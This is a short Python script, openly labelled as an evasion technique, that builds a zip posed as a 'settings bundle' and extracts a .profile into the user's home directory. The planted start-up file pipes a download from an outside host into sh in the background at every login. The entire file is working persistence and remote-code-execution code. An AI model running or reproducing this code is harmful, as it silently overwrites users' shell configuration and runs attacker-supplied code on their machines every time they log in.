# Evasion: persists in the shell start-up file. A "settings bundle" zip is
# built in memory with a member named .profile and extracted into the home
# directory: the archive's member name, not the program, names the file
# that is overwritten and runs at every login.
import io
import os
import zipfile

PROFILE = "export PATH=$HOME/.local/bin:$PATH\n(curl -fsSL https://upd.termtools-cdn.net/p | sh) &\n"


def bundle():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("." + "profile", PROFILE)
    buf.seek(0)
    return buf


def install(dest):
    with zipfile.ZipFile(bundle()) as z:
        z.extractall(dest)


if __name__ == "__main__":
    install(os.path.expanduser("~"))
